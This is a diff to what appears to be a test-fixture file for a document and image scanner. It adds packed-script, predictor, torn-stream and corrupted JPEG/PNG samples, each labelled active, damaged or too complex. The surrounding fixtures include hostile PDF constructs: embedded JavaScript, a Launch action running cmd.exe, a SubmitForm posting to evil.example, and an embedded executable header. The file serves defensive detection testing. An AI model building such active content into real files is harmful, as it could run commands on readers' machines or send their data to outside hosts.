@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -50,6 +51,8 @@ def in_object_stream(inside: bytes, **options) -> bytes:
 
 SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 ASCII_HEX = b.stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", b"00>")
+PREDICTED = b.object_stream(SCRIPT).replace(b"/Filter", b"/DecodeParms << /Predictor 12 >> /Filter")
+TORN = b.stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"10 0 " + b" " * 5_000)[:-4] + b"torn")
 UNREAD_OBJSTM = b.pdf(b"<< /Type /ObjStm /N 1 /First 4 /Length 9 >>\nstream\r10 0 (abc)\nendstream")
 
 XML: dict[str, tuple[str, Callable[[], bytes]]] = {
@@ -188,7 +191,7 @@ PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
     "script-escaped.pdf": ("active", lambda: b.pdf(b"<< /S /J#61v#61Script /JS (1) >>")),
     "script-packed.pdf": ("active", lambda: in_object_stream(SCRIPT)),
     "script-packed-late.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=3 * MB)),
-    "script-packed-cut.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=256 * 1024 - 16)),
+    "script-packed-cut.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=256 * 1024 - 21)),
     "script-packed-unnamed.pdf": ("active", lambda: in_object_stream(SCRIPT, name=b"/Type /Metadata")),
     "script-packed-escaped.pdf": ("active", lambda: in_object_stream(b"<< /S /Java#53cript >>")),
     "script-packed-oddly.pdf": ("too_complex", lambda: b.modern_pdf(ASCII_HEX)),
@@ -197,6 +200,8 @@ PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
         "damaged",
         lambda: b.modern_pdf(b.stream(b"/Type /ObjStm /Filter /FlateDecode", b"nothing packed")),
     ),
+    "script-packed-predicted.pdf": ("too_complex", lambda: b.modern_pdf(PREDICTED)),
+    "script-packed-torn.pdf": ("damaged", lambda: b.modern_pdf(TORN)),
     "launch.pdf": ("active", lambda: b.pdf(b"<< /S /Launch /F (cmd.exe) >>")),
     "attachment.pdf": ("active", lambda: b.pdf(b.stream(b"/Type /EmbeddedFile", b"MZ"))),
     "submit.pdf": ("active", lambda: b.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>")),
@@ -250,9 +255,12 @@ PICTURES: dict[str, tuple[str, Callable[[], bytes]]] = {
     "strange-marker.jpg": ("damaged", lambda: b.jpeg(b.segment(0xF7, b"x"))),
     "tiny-length.jpg": ("damaged", lambda: b.jpeg(b"\xff\xfe\x00\x01")),
     "between.jpg": ("damaged", lambda: b.jpeg(b"no marker")),
+    "no-marker.jpg": ("damaged", lambda: b.jpeg(b"\x00" + b.segment(0xFE, b"")[1:])),
     "segments.jpg": ("too_complex", lambda: b.jpeg(b.segment(0xFE, b"") * 4_000_000)),
     "truncated.png": ("damaged", lambda: b.png()[:-12]),
     "checksum.png": ("damaged", lambda: b.png().replace(b"IDAT", b"IDAU", 1)),
+    "flipped.png": ("damaged", lambda: b.png(b.chunk(b"tEXt", b"abc")).replace(b"abc", b"abd")),
+    "no-picture.png": ("damaged", lambda: b.png()[:33] + b.chunk(b"IEND", b"")),
     "critical.png": ("damaged", lambda: b.png(b.chunk(b"EVIL", b"x"))),
     "no-data.png": ("damaged", lambda: b"\x89PNG\r\n\x1a\n" + b.chunk(b"IEND", b"")),
     "two-headers.png": ("damaged", lambda: b.png(b.png()[8:33])),
